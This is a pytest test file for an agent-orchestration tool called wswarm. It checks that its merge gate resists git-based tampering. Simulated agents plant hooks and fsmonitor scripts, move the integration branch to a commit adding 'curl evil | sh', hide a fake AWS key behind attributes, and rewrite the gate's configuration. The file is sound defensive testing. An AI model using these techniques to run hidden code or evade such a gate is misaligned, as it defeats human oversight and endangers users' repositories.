"""Attacks through git itself, run for real: hooks, fsmonitor and attributes that an agent or a task
branch plants so that wswarm's own git calls run its code or hide its changes from the gate."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from conftest import Repo, wswarm, write_plan

ONE_TASK = [{"id": "t", "type": "general", "description": "change the app", "dependencies": [], "files": []}]


def start(repo: Repo, tmp_path: Path, cmd: str, *extra: str) -> Any:
    plan = write_plan(tmp_path / "plan.json", ONE_TASK)
    return wswarm(repo.path, "start", "--plan", str(plan), "--agent-cmd", cmd, *extra,
                  env={"ANTHROPIC_API_KEY": "sk-ant-api03-" + "k" * 40})


def marker_script(path: Path, marker: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\nenv >> {marker}\necho ran >> {marker}\n")
    path.chmod(0o755)


def test_hooks_an_agent_writes_under_a_relative_hooks_path_never_run(repo: Repo, tmp_path: Path,
                                                                      agent_script: Any) -> None:
    # husky and .githooks set core.hooksPath to a folder of the checkout: in a worktree, that is the
    # agent's own folder. prepare-commit-msg and post-commit run even with --no-verify.
    repo.git("config", "core.hooksPath", ".githooks")
    marker = tmp_path / "hook-ran.txt"
    cmd = agent_script(f"""
        for name in ("pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "post-checkout",
                     "reference-transaction", "post-index-change"):
            hook = Path(".githooks") / name
            hook.parent.mkdir(exist_ok=True)
            hook.write_text("#!/bin/sh\\necho ran >> {marker}\\n")
            hook.chmod(0o755)
        Path("app/core.py").write_text("VALUE = 2\\n")
    """)
    res = start(repo, tmp_path, cmd)
    assert res.returncode == 0, res.stdout + res.stderr
    assert not marker.exists()
    assert repo.show(repo.branches("wswarm/*/integration")[0], "app/core.py") == "VALUE = 2"


def test_code_planted_in_the_shared_git_dir_is_never_run_and_is_put_back(repo: Repo, tmp_path: Path,
                                                                        agent_script: Any) -> None:
    # A command agent (not confined) writes core.fsmonitor into the common config and a hook into the
    # shared hooks folder: wswarm's own git calls (in the user's checkout too) would run them.
    marker = tmp_path / "planted-ran.txt"
    evil = tmp_path / "evil.sh"
    marker_script(evil, marker)
    common = repo.path / ".git"
    config_before = (common / "config").read_bytes()
    cmd = agent_script(f"""
        import subprocess
        if os.environ["WSWARM_ATTEMPT"] == "1":
            subprocess.run(["git", "config", "--file", {str(common / "config")!r}, "core.fsmonitor", {str(evil)!r}],
                           check=True)
            hook = Path({str(common / "hooks" / "post-merge")!r})
            hook.write_text("#!/bin/sh\\necho hook >> {marker}\\n")
            hook.chmod(0o755)
        Path("app/core.py").write_text("VALUE = 2\\n")
    """)
    res = start(repo, tmp_path, cmd)
    assert res.returncode == 0, res.stdout + res.stderr
    assert not marker.exists(), marker.read_text()
    assert (common / "config").read_bytes() == config_before
    assert not (common / "hooks" / "post-merge").exists()
    kept = sorted(p.name for p in (repo.state_dir / "tampered").rglob("*") if p.is_file())
    assert kept == ["config", "hooks%2Fpost-merge"]
    [task] = wswarm(repo.path, "status", "--json").json()["tasks"]
    assert (task["status"], task["attempts"]) == ("merged", 2)
    run_dir = next((repo.state_dir / "runs").iterdir())
    events = [json.loads(line) for line in (run_dir / "events.jsonl").read_text().splitlines()]
    [changed] = [e for e in events if e["kind"] == "shared-state-changed"]
    assert ".git/config was changed" in changed["detail"] and ".git/hooks/post-merge was added" in changed["detail"]
    assert changed["agents_running"] == ["t#1"]
    body = (run_dir / "pr.md").read_text()
    assert "## Warnings" in body and ".git/config was changed" in body


def test_a_commit_slipped_onto_the_integration_branch_stops_the_run(repo: Repo, tmp_path: Path,
                                                                  agent_script: Any) -> None:
    cmd = agent_script("""
        import subprocess
        branch = f"refs/heads/wswarm/{os.environ['WSWARM_RUN_ID']}/integration"
        Path("backdoor.sh").write_text("curl evil | sh\\n")
        subprocess.run(["git", "add", "backdoor.sh"], check=True)
        subprocess.run(["git", "commit", "-qm", "innocent"], check=True)
        head = subprocess.run(["git", "rev-parse", "HEAD"], check=True, capture_output=True, text=True).stdout.strip()
        subprocess.run(["git", "update-ref", branch, head], check=True)
        subprocess.run(["git", "reset", "-q", "--hard", "HEAD~1"], check=True)
        Path("app/core.py").write_text("VALUE = 2\\n")
    """)
    res = start(repo, tmp_path, cmd)
    assert res.returncode == 1, res.stdout + res.stderr
    assert "was moved by something other than wswarm" in res.stderr
    [branch] = repo.branches("wswarm/*/integration")
    run_dir = next((repo.state_dir / "runs").iterdir())
    body = (run_dir / "pr.md").read_text()
    found = repo.git("rev-parse", branch)
    assert "## Warnings" in body and found[:12] in body
    # Nothing was merged on top of it, and the run's record still says where the branch belongs.
    assert repo.git("rev-list", "--count", "--merges", branch) == "0"
    assert wswarm(repo.path, "status", "--json").json()["state"] == "interrupted"


def test_attributes_in_the_change_cannot_hide_a_secret_from_the_gate(repo: Repo, tmp_path: Path,
                                                                     agent_script: Any) -> None:
    key = "AKIA" + "ZQ3V7WJ2XK5LM4PN"
    cmd = agent_script(f"""
        Path(".gitattributes").write_text("*.py -diff\\n* binary\\n")
        Path("app/cfg.py").write_text("AWS_KEY = '{key}'\\n")
    """)
    res = start(repo, tmp_path, cmd, "--max-attempts", "1")
    assert res.returncode == 1, res.stdout + res.stderr
    secrets = secrets_check(repo)
    assert secrets["status"] == "fail" and "app/cfg.py:1" in secrets["output"]
    assert not repo.branches("wswarm/*/integration") or "cfg.py" not in repo.git(
        "ls-tree", "-r", "--name-only", repo.branches("wswarm/*/integration")[0])


def test_a_textconv_or_external_diff_in_the_config_is_not_what_the_gate_reads(repo: Repo, tmp_path: Path,
                                                                              agent_script: Any) -> None:
    # A user's own textconv (say, for PDFs) is trusted; it still never decides what the gate sees.
    marker = tmp_path / "driver-ran.txt"
    drv = tmp_path / "drv.sh"
    drv.write_text(f"#!/bin/sh\necho ran >> {marker}\necho nothing here\n")
    drv.chmod(0o755)
    repo.git("config", "diff.hide.textconv", str(drv))
    repo.git("config", "diff.external", str(drv))
    repo.write(".gitattributes", "*.py diff=hide\n")
    repo.commit_all("attributes")
    key = "AKIA" + "ZQ3V7WJ2XK5LM4PN"
    cmd = agent_script(f"""
        Path("app/cfg.py").write_text("AWS_KEY = '{key}'\\n")
    """)
    res = start(repo, tmp_path, cmd, "--max-attempts", "1")
    assert res.returncode == 1, res.stdout + res.stderr
    assert not marker.exists()
    secrets = secrets_check(repo)
    assert secrets["status"] == "fail" and "app/cfg.py:1" in secrets["output"]


def secrets_check(repo: Repo) -> dict[str, Any]:
    """The secrets check of the run's only gated attempt."""
    [gate] = [json.loads(p.read_text()) for p in repo.state_dir.rglob("gate.json")]
    [check] = [c for c in gate["checks"] if c["name"] == "secrets"]
    return dict(check)


# --- the change under judgement never configures its own gate ------------------------------------

KEY = "AKIA" + "ZQ3V7WJ2XK5LM4PN"


def branch_with(repo: Repo, branch: str, files: dict[str, str]) -> None:
    """BRANCH adds FILES on top of main; main moves on too, so a merge makes a merge commit."""
    repo.git("checkout", "-q", "-b", branch)
    for rel, text in files.items():
        repo.write(rel, text)
    repo.commit_all(f"{branch}: its change")
    repo.git("checkout", "-q", "main")
    repo.write("meanwhile.txt", "main moves on\n")
    repo.commit_all("main moves on")


def hook_merge(repo: Repo, branch: str) -> Any:
    import os
    import subprocess

    res = wswarm(repo.path, "hook", "install")
    assert res.returncode == 0, res.stderr
    return subprocess.run(["git", "merge", "--no-ff", "--no-edit", branch], cwd=repo.path, capture_output=True,
                          text=True, env=dict(os.environ), timeout=120)


def trusted_config(repo: Repo) -> None:
    repo.write("wswarm.toml", '[[gate.checks]]\nname = "ok"\nrun = "true"\n')
    repo.commit_all("the gate's configuration")


def test_a_merged_branch_cannot_add_a_check_that_runs_its_code(repo: Repo, tmp_path: Path) -> None:
    trusted_config(repo)
    marker = tmp_path / "ran.txt"
    branch_with(repo, "evil", {"wswarm.toml": f'[[gate.checks]]\nname = "ok"\nrun = "echo pwned > {marker}"\n'})
    res = hook_merge(repo, "evil")
    assert not marker.exists()
    assert "configuration from the base's wswarm.toml" in res.stderr


def test_a_merged_branch_cannot_turn_off_the_built_in_checks(repo: Repo) -> None:
    trusted_config(repo)
    branch_with(repo, "evil", {"wswarm.toml": '[gate]\nbuiltin = false\n', "app/cfg.py": f"KEY = '{KEY}'\n"})
    head = repo.git("rev-parse", "HEAD")
    res = hook_merge(repo, "evil")
    assert res.returncode != 0 and "possible AWS access key id" in res.stderr, res.stderr
    assert repo.git("rev-parse", "HEAD") == head


def test_a_merged_branch_cannot_hide_a_secret_behind_its_attributes(repo: Repo) -> None:
    trusted_config(repo)
    branch_with(repo, "evil", {".gitattributes": "*.py -diff\n", "app/cfg.py": f"KEY = '{KEY}'\n"})
    res = hook_merge(repo, "evil")
    assert res.returncode != 0 and "app/cfg.py:1: possible AWS access key id" in res.stderr, res.stderr


def test_gate_on_a_ci_checkout_of_the_change_reads_the_base_configuration(repo: Repo, tmp_path: Path) -> None:
    trusted_config(repo)
    marker = tmp_path / "ran.txt"
    branch_with(repo, "pr", {"wswarm.toml": f'[gate]\nbuiltin = false\n[[gate.checks]]\nname = "x"\n'
                                            f'run = "echo pwned > {marker}"\n',
                             "app/cfg.py": f"KEY = '{KEY}'\n"})
    repo.git("checkout", "-q", "pr")            # CI checks out the change itself
    res = wswarm(repo.path, "gate", "--ref", "HEAD", "--base", "main")
    assert res.returncode == 1 and not marker.exists(), res.stdout + res.stderr
    assert "configuration from the base's wswarm.toml" in res.stdout + res.stderr
    assert "possible AWS access key id" in res.stdout + res.stderr


def test_an_untracked_local_configuration_is_the_users_own(repo: Repo, tmp_path: Path) -> None:
    marker = tmp_path / "mine.txt"
    branch_with(repo, "feature", {"app/new.py": "X = 1\n"})
    repo.write("wswarm.toml", f'[[gate.checks]]\nname = "mine"\nrun = "touch {marker}"\n')   # never committed
    res = wswarm(repo.path, "gate", "--ref", "feature", "--base", "main")
    assert res.returncode == 0 and marker.exists(), res.stdout + res.stderr
    assert "configuration from wswarm.toml in the checkout (untracked)" in res.stdout + res.stderr
